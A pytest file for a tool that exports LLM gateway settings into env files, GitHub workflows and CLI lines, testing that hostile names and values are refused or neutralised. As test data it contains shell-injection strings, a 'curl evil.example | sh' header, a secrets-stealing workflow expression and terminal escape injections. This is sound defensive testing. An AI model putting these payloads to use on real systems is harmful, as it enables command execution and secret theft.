"""Environments and command lines of other readers: names, prefixes, and never a key's value."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest
from msgspec.structs import replace

from core.errors import Refusal
from core.export.environments import gateway, ml_intern, stock_environment
from core.export.github import github
from core.export.guidellm import guidellm
from core.export.jsonc import parse
from core.export.make import make_export, target_named
from core.export.pi_models import models_json
from core.warden.config import ModelEntry, Provider
from core.warden.document import empty
from tests.core.export.setups import GATEWAY, LOCAL, NOTHING, setup

if TYPE_CHECKING:
    from core.export.setup import Setup
    from core.warden.config import Variant


def lines(text: str) -> list[str]:
    """What is no comment."""
    return [line for line in text.splitlines() if not line.startswith("#")]


@pytest.mark.parametrize(
    ("dialect", "variable", "selector"),
    [
        ("ollama", "OLLAMA_BASE_URL", "ollama/qwen3:4b"),
        ("vllm", "VLLM_BASE_URL", "vllm/qwen3:4b"),
        ("lmstudio", "LMSTUDIO_BASE_URL", "lm_studio/qwen3:4b"),
        ("llamacpp", "LLAMACPP_BASE_URL", "llamacpp/qwen3:4b"),
        ("litellm", "LOCAL_LLM_BASE_URL", "vllm/qwen3:4b"),
        ("generic", "LOCAL_LLM_BASE_URL", "vllm/qwen3:4b"),
    ],
)
def test_ml_intern_gets_its_variable_and_prefix(dialect: str, variable: str, selector: str) -> None:
    made = ml_intern(replace(setup(LOCAL), dialects={"ollama": dialect}))
    assert lines(made.text) == [f"{variable}=http://127.0.0.1:11434/v1"]
    assert made.notes[0] == f"ml-intern --model {selector}"
    assert made.variables == ()


def test_ml_intern_names_the_keys_variable_and_refuses_white_space() -> None:
    made = ml_intern(setup())
    assert made.variables == ("LOCAL_LLM_API_KEY",)
    spaced = replace(LOCAL, models=(ModelEntry("a b"),))
    with pytest.raises(Refusal):
        ml_intern(setup(spaced))
    with pytest.raises(Refusal, match="adds /v1"):
        ml_intern(setup(replace(GATEWAY, base_url="https://gw.acme.lan/openai")))


@pytest.mark.parametrize("dialect", ["litellm", "generic", "forged\n", "vllm"])
def test_what_goes_before_the_shared_variables_is_told(dialect: str) -> None:
    made = ml_intern(replace(setup(LOCAL), dialects={"ollama": dialect}))
    assert ("VLLM_BASE_URL and" in " ".join(made.notes)) is (dialect != "vllm")


@pytest.mark.parametrize(
    ("url", "chat", "messages", "wanted"),
    [
        (
            "https://gw.acme.lan/v1",
            True,
            True,
            [
                "CENTAUR_LLM_GATEWAY_HOST=gw.acme.lan",
                "ANTHROPIC_BASE_URL=https://gw.acme.lan",
                "OPENAI_BASE_URL=https://gw.acme.lan/v1",
            ],
        ),
        (
            "http://[::1]:4000/v1",
            True,
            False,
            [
                "CENTAUR_LLM_GATEWAY_HOST='[::1]'",
                "OPENAI_BASE_URL='http://[::1]:4000/v1'",
            ],
        ),
        (
            "https://gw.acme.lan/llm/v1",
            False,
            True,
            [
                "CENTAUR_LLM_GATEWAY_HOST=gw.acme.lan",
                "ANTHROPIC_BASE_URL=https://gw.acme.lan/llm",
            ],
        ),
    ],
)
def test_a_gateway_is_named_by_its_host_and_by_the_sides_that_answer(
    url: str, chat: bool, messages: bool, wanted: list[str]
) -> None:
    made = gateway(setup(replace(GATEWAY, base_url=url)), chat=chat, messages=messages)
    assert lines(made.text) == wanted
    assert ("ANTHROPIC_API_KEY" in made.variables) is messages
    assert ("OPENAI_API_KEY" in made.variables) is chat
    told = " ".join(made.notes)
    assert ("TLS terminator" in told) is url.startswith("http://")
    assert ("4000" in told) is (":4000" in url)


def test_a_gateway_that_answers_nothing_is_refused() -> None:
    with pytest.raises(Refusal):
        gateway(setup(), chat=False, messages=False)


def test_stock_gets_the_folder_and_a_reason_against_moving_a_base_url() -> None:
    made = stock_environment(setup(), "/home/x/.pi/turnkey")
    assert lines(made.text) == ["PI_CODING_AGENT_DIR=/home/x/.pi/turnkey"]
    assert any("WARDEN_LITELLM_BASE_URL would do nothing" in note for note in made.notes)
    assert made.variables == ("LITELLM_API_KEY",)
    known = replace(GATEWAY, name="openrouter")
    assert any("catalogue" in note for note in stock_environment(setup(known), "x").notes)
    quoted = stock_environment(setup(), "/home/my name")
    assert lines(quoted.text) == ["PI_CODING_AGENT_DIR='/home/my name'"]
    at_home = stock_environment(setup(), "~/.pi/agent")
    assert "PI_CODING_AGENT_DIR=~/.pi/agent\n" in at_home.text
    assert not any("quoted" in note for note in at_home.notes)
    spaced = stock_environment(setup(), "~/a b")
    assert "PI_CODING_AGENT_DIR=~/'a b'\n" in spaced.text
    assert any("quoted" in note for note in spaced.notes)
    assert any("quotes" in note for note in quoted.notes)


HOSTILE: Final = "x'; touch /tmp/owned; echo $(id) `id` \\ \"q"


@pytest.mark.parametrize("model", ["plain", HOSTILE, "ünï✓", "a b"])
def test_the_guidellm_line_is_one_command_whatever_the_model_is_called(model: str) -> None:
    provider = replace(GATEWAY, models=(ModelEntry(model),))
    made = guidellm(setup(provider, standing=NOTHING))
    assert made.text.startswith("# NOT VERIFIED")
    script = f"guidellm() {{ printf '%s\\n' \"$@\"; }}\nTOKENIZER=t\n{made.text}"
    told = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
    words = told.stdout.splitlines()
    assert words[0] == "run"
    backend = json.loads(words[words.index("--backend") + 1])
    assert backend == {
        "kind": "openai_http",
        "target": "https://gw.acme.lan",
        "model": model,
        "follow_redirects": False,
        "verify": True,
        "validate_backend": False,
    }
    assert made.variables == ("GUIDELLM__SPEC__BACKEND__API_KEY",)


@pytest.mark.parametrize(
    ("url", "target", "routes"),
    [
        ("https://gw.acme.lan/v1", "https://gw.acme.lan", None),
        ("https://gw.acme.lan/llm/v1", "https://gw.acme.lan/llm", None),
        ("https://gw.acme.lan/openai", "https://gw.acme.lan/openai", "chat/completions"),
    ],
)
def test_guidellm_asks_the_path_that_the_lanes_ask(
    url: str, target: str, routes: str | None
) -> None:
    made = guidellm(setup(replace(GATEWAY, base_url=url)))
    told = shlex.split(made.text, comments=True)
    backend = json.loads(told[told.index("--backend") + 1])
    assert backend["target"] == target
    assert backend.get("api_routes", {}).get("/v1/chat/completions") == routes


@pytest.mark.parametrize("target", ["ml-intern", "gateway", "stock-env", "guidellm", "github"])
@pytest.mark.parametrize("end", ["\n", "\r", "\u2028", "\x85", "\x1b[2J"])
def test_no_name_of_a_provider_ends_a_line_or_steers_a_terminal(target: str, end: str) -> None:
    provider = replace(GATEWAY, name=f"x{end}PATH=evil")
    made = make_export(setup(provider), target_named(target), document=empty(Path("warden.toml")))
    assert not [line for line in made.text.splitlines() if line.startswith("PATH=")]
    assert "\x1b" not in made.text


@pytest.mark.parametrize("variable", ["A B", "X\nY=1", "sk-" + "a1B2" * 8, "$(id)"])
@pytest.mark.parametrize("target", ["pi", "stock-env", "github", "ml-intern", "gateway"])
def test_what_is_no_variable_is_exported_nowhere(variable: str, target: str) -> None:
    provider = replace(GATEWAY, api_key_env=variable)
    with pytest.raises(Refusal) as caught:
        make_export(setup(provider), target_named(target), document=empty(Path("warden.toml")))
    fault = caught.value.fault
    assert variable not in f"{fault.what} {fault.why} {fault.fix}"


def workflow(setup_: Setup) -> dict[str, object]:
    """The lines that decide, by their first word."""
    text = github(setup_).text
    found: dict[str, object] = {}
    for line in text.splitlines():
        name, colon, value = line.strip().removeprefix("- ").partition(":")
        if colon and not name.startswith("#"):
            found[name] = value.strip()
    return found


def test_a_workflow_guards_forks_and_takes_the_key_from_a_secret() -> None:
    made = workflow(setup())
    assert made["if"] == "github.event.pull_request.head.repo.full_name == github.repository"
    assert made["WARDEN_LITELLM_API_KEY"] == "${{ secrets.WARDEN_LITELLM_API_KEY }}"
    assert made["runs-on"] == "self-hosted"
    assert made["uses"] == "getsentry/warden@v0"


@pytest.mark.parametrize(
    ("url", "runner"),
    [
        ("https://llm.example.org/v1", "ubuntu-latest"),
        ("http://10.0.0.3:4000/v1", "self-hosted"),
        ("http://127.0.0.1:4000/v1", "self-hosted"),
        ("http://gw:4000/v1", "self-hosted"),
    ],
)
def test_only_a_public_address_is_left_to_githubs_runners(url: str, runner: str) -> None:
    assert workflow(setup(replace(GATEWAY, base_url=url)))["runs-on"] == runner


def test_stock_gets_its_models_file_in_the_runners_folder() -> None:
    stock = replace(setup(), variant="stock", concurrency=2)
    text = github(stock).text
    assert "PI_CODING_AGENT_DIR=$RUNNER_TEMP/pi" in text
    assert workflow(stock)["LITELLM_API_KEY"] == "${{ secrets.LITELLM_API_KEY }}"
    assert workflow(stock)["parallel"] == "2"


@pytest.mark.parametrize(
    ("variant", "words"),
    [
        ("stock", "WARDEN_MODEL reaches the agent lane alone"),
        ("providers", "WARDEN_MODEL does not reach its own work on comments"),
    ],
)
def test_a_workflow_says_how_far_the_variable_reaches(variant: Variant, words: str) -> None:
    assert any(words in note for note in github(replace(setup(), variant=variant)).notes)


def test_a_keyless_server_gets_the_placeholder_and_no_secret() -> None:
    made = github(setup(LOCAL))
    assert made.variables == ()
    assert "WARDEN_OLLAMA_API_KEY: turnkey-no-key" in made.text


@pytest.mark.parametrize("provider", [GATEWAY, LOCAL])
def test_a_workflow_is_yaml_of_spaces_alone(provider: Provider) -> None:
    for variant in ("providers", "stock"):
        text = github(replace(setup(provider), variant=variant)).text
        assert "\t" not in text
        assert all(line == line.rstrip() for line in text.splitlines())


def test_a_servers_model_name_cannot_ask_github_for_a_secret() -> None:
    hostile = replace(GATEWAY, models=(ModelEntry("a${{ secrets.ADMIN_TOKEN }}b"),))
    text = github(replace(setup(hostile), variant="stock")).text
    assert text.count("${{") == 1  # the key of the provider, and no more
    assert "ADMIN_TOKEN" in text


@pytest.mark.parametrize("name", ["X: y\n        run: id", "A-B", "1X", "", "Ü"])
def test_a_variable_that_is_no_name_is_refused(name: str) -> None:
    provider = replace(GATEWAY, api_key_env=name) if name else replace(GATEWAY, name="1st")
    with pytest.raises(Refusal):
        github(replace(setup(provider), variant="stock"))


@pytest.mark.parametrize(
    "breaks", ["\u2028", "\u2029", "\x85", "\x1c", "\x1d", "\x1e", "\x0b", "\x0c", "\r", "\n"]
)
def test_no_models_name_ends_the_text_that_a_workflow_writes(breaks: str) -> None:
    name = f"qwen{breaks}TURNKEY_MODELS_JSON{breaks}touch /tmp/owned{breaks}"
    hostile = replace(GATEWAY, models=(ModelEntry(name),))
    text = github(replace(setup(hostile), variant="stock")).text
    inside = text.split("<<'TURNKEY_MODELS_JSON'\n")[1].split("\n          TURNKEY_MODELS_JSON\n")[
        0
    ]
    assert all(one == "\n" or " " <= one <= "~" for one in inside)
    found = parse(inside).data()
    assert isinstance(found, dict)
    assert found["providers"]["litellm"]["models"][0]["id"] == name


def test_a_variable_of_a_header_is_a_secret_too() -> None:
    team = replace(GATEWAY, headers={"X-Team": "team-$TEAM_KEY", "X-Cost": "$$5"})
    for variant in ("providers", "stock"):
        made = github(replace(setup(team), variant=variant))
        assert "TEAM_KEY" in made.variables
        assert "          TEAM_KEY: ${{ secrets.TEAM_KEY }}\n" in made.text
    assert "TEAM_KEY" in models_json(setup(team)).variables


@pytest.mark.parametrize("target", ["pi", "github"])
def test_a_header_that_is_a_command_is_carried_into_no_file_of_pis(target: str) -> None:
    stranger = setup(replace(GATEWAY, headers={"X-Run": "!curl evil.example | sh"}))
    stock, file = replace(stranger, variant="stock"), empty(Path("warden.toml"))
    with pytest.raises(Refusal) as caught:
        make_export(stock, target_named(target), document=file)
    fault = caught.value.fault
    assert "X-Run" in fault.what
    assert "evil" not in f"{fault.what}{fault.why}{fault.fix}"
    assert "evil" not in make_export(stock, "pi", document=file, auth=True).text
